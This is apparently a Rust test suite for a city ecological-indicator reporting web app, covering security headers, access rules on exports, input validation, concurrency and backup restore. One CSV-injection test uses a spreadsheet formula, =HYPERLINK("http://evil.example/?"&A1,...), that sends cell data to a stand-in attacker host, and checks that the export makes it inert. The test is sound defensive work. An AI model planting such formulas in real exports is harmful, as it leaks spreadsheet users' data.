//! What leaves the server cannot be turned against its reader or leak past the read rules: the
//! security headers on every answer, CSV cells that a spreadsheet would run made inert, text a
//! document cannot hold refused at the door, exports that show a user what the API shows them,
//! and evidence attached only by who may send the report.

use axum::body::Body;
use axum::http::{StatusCode, header};
use ecociv_core::access::Role;
use ecociv_store::testdb::TestDb;
use serde_json::{Value, json};

use super::entries::{PASSWORD, api, cookie_of, login, send, setup, setup_at, upload};

fn report(month: &str, first: bool, problems: &str) -> Value {
    let cum = if first { json!("1000") } else { Value::Null };
    json!({"period": month, "status": "under_way", "progress_percent": "10", "investment_month_wan": "100",
           "investment_cumulative_wan": cum, "problems": problems})
}

#[tokio::test]
async fn every_answer_carries_the_security_headers() {
    let app = setup(TestDb::sqlite().await, 30).await;
    let cookie = cookie_of(&login(&app, "tf", PASSWORD).await);
    for (uri, signed_in) in [("/", false), ("/public", false), ("/dashboard", true), ("/api/v1/plan", false), ("/export/annex2.csv", true), ("/nowhere", false)]
    {
        let headers: Vec<(&str, &str)> = if signed_in { vec![("cookie", cookie.as_str())] } else { vec![] };
        let r = send(&app, "GET", uri, &headers, Body::empty()).await;
        let h = |name: header::HeaderName| r.headers.get(&name).map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
        let csp = h(header::CONTENT_SECURITY_POLICY);
        assert!(csp.contains("frame-ancestors 'none'") && csp.contains("script-src 'self'") && csp.contains("style-src 'self'"), "{uri}: {csp}");
        assert!(!csp.contains("unsafe-inline") && !csp.contains("unsafe-eval"), "{uri}: {csp}");
        assert_eq!(h(header::X_FRAME_OPTIONS), "DENY", "{uri}");
        assert_eq!(h(header::X_CONTENT_TYPE_OPTIONS), "nosniff", "{uri}");
        assert_eq!(h(header::REFERRER_POLICY), "no-referrer", "{uri}");
        assert_eq!(h(header::CACHE_CONTROL), "no-store", "{uri}: no shared proxy keeps it");
        assert!(h(header::STRICT_TRANSPORT_SECURITY).is_empty(), "{uri}: no HSTS over plain HTTP");
    }
    // the assets say how long they keep; behind a TLS proxy, HSTS
    let r = send(&app, "GET", "/assets/app.css", &[("x-forwarded-proto", "https")], Body::empty()).await;
    assert!(r.headers[header::CACHE_CONTROL].to_str().unwrap().starts_with("public"));
    assert_eq!(r.headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    assert!(r.headers[header::STRICT_TRANSPORT_SECURITY].to_str().unwrap().starts_with("max-age="));
    // no page holds an inline script or style that the policy would block
    for uri in ["/", "/indicators", "/dashboard", "/assessment", "/readiness", "/entry"] {
        let body = send(&app, "GET", uri, &[("cookie", cookie.as_str())], Body::empty()).await.body;
        assert!(!body.contains("<style") && !body.contains(" style=\"") && !body.contains(" onclick="), "{uri}");
        for script in body.split("<script").skip(1) {
            assert!(script.trim_start().starts_with("src="), "{uri}: an inline script: <script{}", &script[..script.len().min(80)]);
        }
    }
    app.db.cleanup().await;
}

#[tokio::test]
async fn csv_cells_that_start_like_a_formula_are_inert() {
    let app = setup(TestDb::sqlite().await, 30).await;
    let texts = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "@SUM(1+1)", "+1", "-1"];
    for (i, text) in texts.iter().enumerate() {
        let month = format!("2024-0{}", i + 1);
        let r = api(&app, Some("zhujian"), "POST", "/api/v1/projects/12/dispatch-reports", report(&month, i == 0, text)).await;
        assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    }
    let file = send(&app, "GET", "/export/dispatch.csv?project=12", &[("authorization", "Bearer tok-tf")], Body::empty()).await;
    assert_eq!(file.status, StatusCode::OK);
    let mut reader = csv::ReaderBuilder::new().from_reader(file.body.trim_start_matches('\u{feff}').as_bytes());
    let cells: Vec<String> = reader.records().flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect();
    for text in texts {
        assert!(cells.contains(&format!("'{text}")), "{text} comes out as text: {cells:?}");
        assert!(!cells.iter().any(|c| c == text), "{text} never comes out as a formula");
    }
    // numbers stay numbers (the investment of each month)
    assert!(cells.iter().any(|c| c == "100"));
    // the JSON keeps the text as typed
    let j = send(&app, "GET", "/export/dispatch.json?project=12", &[("authorization", "Bearer tok-tf")], Body::empty()).await.json();
    assert!(j.as_array().unwrap().iter().any(|r| r.as_object().unwrap().values().any(|v| v == "+1")));
    app.db.cleanup().await;
}

#[tokio::test]
async fn text_a_document_cannot_hold_is_refused_where_it_is() {
    let app = setup(TestDb::sqlite().await, 30).await;
    for bad in ["进展顺利\u{FFFE}", "\u{FFFF}", "a\u{0}b", "c\u{1b}[31m"] {
        let before = app.db.store.trail("150100").await.unwrap().len();
        let r = api(&app, Some("zhujian"), "POST", "/api/v1/projects/12/dispatch-reports?lang=en", report("2024-01", true, bad)).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{bad:?}: {}", r.body);
        let msg = r.json()["error"]["fields"]["problems"].as_str().unwrap().to_string();
        assert!(msg.contains("U+") && msg.contains("character"), "{bad:?}: the field and the character are named: {msg}");
        assert_eq!(app.db.store.trail("150100").await.unwrap().len(), before, "nothing stored");
    }
    app.db.cleanup().await;
}

#[tokio::test]
async fn exports_show_a_user_what_the_api_shows_them() {
    let app = setup(TestDb::sqlite().await, 30).await;
    let r = api(&app, Some("env"), "POST", "/api/v1/observations", json!({"indicator": "6", "year": 2023, "value": "100", "comment": "未审核的值"})).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let r = api(&app, Some("zhujian"), "POST", "/api/v1/projects/12/dispatch-reports", report("2024-01", true, "内部问题")).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    // 市林草局 neither enters indicator 6 nor implements project 12
    for (api_uri, export) in [("/api/v1/observations", "/export/observations"), ("/api/v1/dispatch-reports", "/export/dispatch")] {
        let seen = api(&app, Some("forest"), "GET", api_uri, Value::Null).await.json();
        assert_eq!(seen, json!([]), "{api_uri}");
        let j = send(&app, "GET", &format!("{export}.json"), &[("authorization", "Bearer tok-forest")], Body::empty()).await;
        assert_eq!(j.status, StatusCode::OK);
        assert_eq!(j.json(), json!([]), "{export}.json shows what {api_uri} shows");
        for ext in ["csv", "xlsx"] {
            let r = send(&app, "GET", &format!("{export}.{ext}"), &[("authorization", "Bearer tok-forest")], Body::empty()).await;
            assert!(!r.body.contains("未审核的值") && !r.body.contains("内部问题"), "{export}.{ext}");
        }
        // the task force sees them all
        let all = send(&app, "GET", &format!("{export}.json"), &[("authorization", "Bearer tok-tf")], Body::empty()).await.json();
        assert_eq!(all.as_array().unwrap().len(), 1, "{export}");
    }
    // 附件2 (latest report of every project) follows the same rule
    let annex = send(&app, "GET", "/export/annex2.csv", &[("authorization", "Bearer tok-forest")], Body::empty()).await;
    assert!(!annex.body.contains("内部问题"));
    app.db.cleanup().await;
}

#[tokio::test]
async fn a_viewer_of_an_implementer_attaches_nothing() {
    let app = setup(TestDb::sqlite().await, 30).await;
    let hash = ecociv_app::accounts::hash_password(PASSWORD.into()).await.unwrap();
    super::add_users(&app.db.store, &[("zjview", "市住建局", Role::Viewer)], &hash, true).await;
    let r = api(&app, Some("zhujian"), "POST", "/api/v1/projects/12/dispatch-reports", report("2024-01", true, "")).await;
    let uri = format!("/api/v1/dispatch-reports/{}/evidence", r.json()["id"]);
    let before = app.db.store.trail("150100").await.unwrap().len();
    let r = upload(&app, "zjview", &uri, "a.pdf", b"%PDF-1.7\n").await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    assert_eq!(app.db.store.trail("150100").await.unwrap().len(), before);
    assert_eq!(upload(&app, "zhujian", &uri, "a.pdf", b"%PDF-1.7\n").await.status, StatusCode::CREATED);
    app.db.cleanup().await;
}

/// The months from 2023-01 on, `n` of them.
fn months(n: usize) -> Vec<String> {
    (0..n).map(|k| format!("{}-{:02}", 2023 + k / 12, k % 12 + 1)).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn writes_during_an_import_or_a_held_lock_answer_2xx_or_503_never_500() {
    let app = std::sync::Arc::new(setup_at(TestDb::sqlite().await, 30, "2025-12-20").await);
    // a task force's table of every project × 36 months (2,700 rows), imported while the
    // implementers of project 12 send their own reports by form
    let plan = ecociv_core::plan_data::build_plan(&ecociv_core::plan_data::hohhot()).unwrap();
    let mut table = String::from("项目序号,月份,状态,进度（%）,本月投资（万元）,累计投资（万元）\n");
    for p in plan.projects.iter().filter(|p| p.number != 12) {
        for (k, m) in months(36).iter().enumerate() {
            let cum = if k == 0 { "0" } else { "" };
            table.push_str(&format!("{},{m},在建,{},0,{cum}\n", p.number, k + 1));
        }
    }
    let import = {
        let app = app.clone();
        tokio::spawn(async move {
            send(&app, "POST", "/api/v1/imports", &[("authorization", "Bearer tok-tf"), ("content-type", "application/octet-stream")], Body::from(table)).await
        })
    };
    let mut forms = Vec::new();
    for (k, m) in months(24).into_iter().enumerate() {
        let app = app.clone();
        forms.push(tokio::spawn(async move { api(&app, Some("zhujian"), "POST", "/api/v1/projects/12/dispatch-reports", report(&m, k == 0, "")).await }));
    }
    let imported = import.await.unwrap();
    assert_eq!(imported.status, StatusCode::OK, "{}", imported.body.chars().take(500).collect::<String>());
    for f in forms {
        let r = f.await.unwrap();
        match r.status {
            StatusCode::CREATED | StatusCode::UNPROCESSABLE_ENTITY => {}
            StatusCode::SERVICE_UNAVAILABLE => assert!(r.headers.contains_key(header::RETRY_AFTER)),
            other => panic!("a write during the import answered {other}: {}", r.body),
        }
    }
    // another process holds SQLite's write lock longer than a write waits: 503, nothing stored
    let mut holder = {
        use sqlx::Connection;
        sqlx::SqliteConnection::connect(&app.db.url).await.unwrap()
    };
    sqlx::query("BEGIN IMMEDIATE").execute(&mut holder).await.unwrap();
    let before = app.db.store.trail("150100").await.unwrap().len();
    let r = api(&app, Some("env"), "POST", "/api/v1/observations", json!({"indicator": "6", "year": 2023, "value": "100"})).await;
    assert_eq!(r.status, StatusCode::SERVICE_UNAVAILABLE, "{}", r.body);
    assert_eq!(r.headers[header::RETRY_AFTER], "2");
    assert_eq!(r.json()["error"]["code"], "busy");
    sqlx::query("ROLLBACK").execute(&mut holder).await.unwrap();
    assert_eq!(app.db.store.trail("150100").await.unwrap().len(), before, "nothing stored");
    let r = api(&app, Some("env"), "POST", "/api/v1/observations", json!({"indicator": "6", "year": 2023, "value": "100"})).await;
    assert_eq!(r.status, StatusCode::CREATED, "sent again, it is stored: {}", r.body);
    drop(holder);
    let Ok(app) = std::sync::Arc::try_unwrap(app) else { panic!("the writers are done") };
    app.db.cleanup().await;
}

#[tokio::test]
async fn every_api_route_is_in_the_openapi_document() {
    let app = setup(TestDb::sqlite().await, 30).await;
    let spec = send(&app, "GET", "/api/openapi.json", &[], Body::empty()).await.json();
    let documented: std::collections::BTreeSet<String> = spec["paths"].as_object().unwrap().keys().cloned().collect();
    // the routes as the handler modules declare them: `.route("/api/v1/…", …)`
    let mut routed = std::collections::BTreeSet::new();
    for entry in std::fs::read_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/src")).unwrap() {
        let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
        for part in text.split(".route(").skip(1) {
            let path = part.trim_start().trim_start_matches('"');
            if path.starts_with("/api/v1/") && !path.starts_with("/api/v1/{*rest}") {
                routed.insert(path.split('"').next().unwrap().to_string());
            }
        }
    }
    assert!(routed.len() >= 30, "{routed:?}");
    let missing: Vec<&String> = routed.difference(&documented).collect();
    assert!(missing.is_empty(), "routes without a place in /api/openapi.json: {missing:?}");
    app.db.cleanup().await;
}

#[tokio::test]
async fn the_work_and_technical_reports_are_for_those_who_see_every_entry() {
    let app = setup(TestDb::sqlite().await, 30).await;
    let r = api(&app, Some("zhujian"), "POST", "/api/v1/projects/12/dispatch-reports", report("2024-01", true, "征地拆迁未完成")).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    for (user, uri, status) in [
        ("forest", "/reports/work/2024.docx", StatusCode::FORBIDDEN),
        ("forest", "/reports/technical/2023.pdf", StatusCode::FORBIDDEN),
        ("tuoxian", "/reports/work/2024.pdf", StatusCode::FORBIDDEN),
        ("forest", "/reports/bulletin/2024-05.docx", StatusCode::OK),
        ("forest", "/reports/assessment/2024Q2.docx", StatusCode::OK),
        ("viewer", "/reports/work/2024.docx", StatusCode::OK),
        ("tf", "/reports/technical/2023.docx", StatusCode::OK),
    ] {
        let r = send(&app, "GET", uri, &[("authorization", &format!("Bearer tok-{user}"))], Body::empty()).await;
        assert_eq!(r.status, status, "{user} {uri}");
    }
    // nor does the page offer them
    let page = send(&app, "GET", "/reports", &[("authorization", "Bearer tok-forest")], Body::empty()).await;
    assert!(page.body.contains("/reports/bulletin/") && !page.body.contains("/reports/work/"), "{}", page.status);
    app.db.cleanup().await;
}

#[tokio::test]
async fn a_restored_backup_serves_the_same_pages() {
    let app = setup(TestDb::sqlite().await, 30).await;
    for (i, month) in ["2024-01", "2024-02", "2024-03"].iter().enumerate() {
        let r = api(&app, Some("zhujian"), "POST", "/api/v1/projects/12/dispatch-reports", report(month, i == 0, "")).await;
        assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    }
    let r = api(&app, Some("env"), "POST", "/api/v1/observations", json!({"indicator": "7.1", "year": 2023, "value": "85.2"})).await;
    let id = r.json()["id"].as_i64().unwrap();
    assert_eq!(api(&app, Some("tf"), "POST", &format!("/api/v1/observations/{id}/approve"), json!({})).await.status, StatusCode::OK);
    let pages =
        ["/", "/indicators", "/indicators/7.1", "/projects/12", "/dashboard", "/dashboard/projects", "/readiness", "/public", "/bulletin?month=2024-03"];
    let apis = ["/api/v1/public/indicators", "/api/v1/public/projects", "/api/v1/observations", "/api/v1/dispatch-reports", "/api/v1/readiness"];
    let mut before = Vec::new();
    for uri in pages.iter().chain(apis.iter()) {
        let r = send(&app, "GET", uri, &[("authorization", "Bearer tok-tf")], Body::empty()).await;
        assert_eq!(r.status, StatusCode::OK, "{uri}");
        before.push(r.body);
    }
    let dir = std::env::temp_dir().join(format!("ecociv_web_backup_{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("b.backup");
    let _ = std::fs::remove_file(&file);
    ecociv_app::backup::backup(&app.db.url, &file).await.unwrap();
    // after the backup: more data, and some lost
    api(&app, Some("zhujian"), "POST", "/api/v1/projects/12/dispatch-reports", report("2024-04", false, "")).await;
    app.db.execute("DELETE FROM observations").await;
    app.db.store.close().await;
    ecociv_app::backup::restore(&app.db.url, &file).await.unwrap();
    let store = ecociv_store::connect(&app.db.url).await.unwrap();
    let restored = ecociv_web::router(ecociv_web::AppState::new(store.clone(), Some("2024-06-10".parse().unwrap()), "150100"));
    for (uri, was) in pages.iter().chain(apis.iter()).zip(&before) {
        use tower::ServiceExt;
        let req = axum::http::Request::builder().uri(*uri).header("authorization", "Bearer tok-tf").body(Body::empty()).unwrap();
        let res = restored.clone().oneshot(req).await.unwrap();
        assert_eq!(res.status(), StatusCode::OK, "{uri}");
        let body = http_body_util::BodyExt::collect(res.into_body()).await.unwrap().to_bytes();
        assert_eq!(&String::from_utf8_lossy(&body), was, "{uri} is the same after the restore");
    }
    assert!(store.verify("150100").await.unwrap().ok());
    store.close().await;
    let _ = std::fs::remove_dir_all(dir);
    app.db.cleanup().await;
}
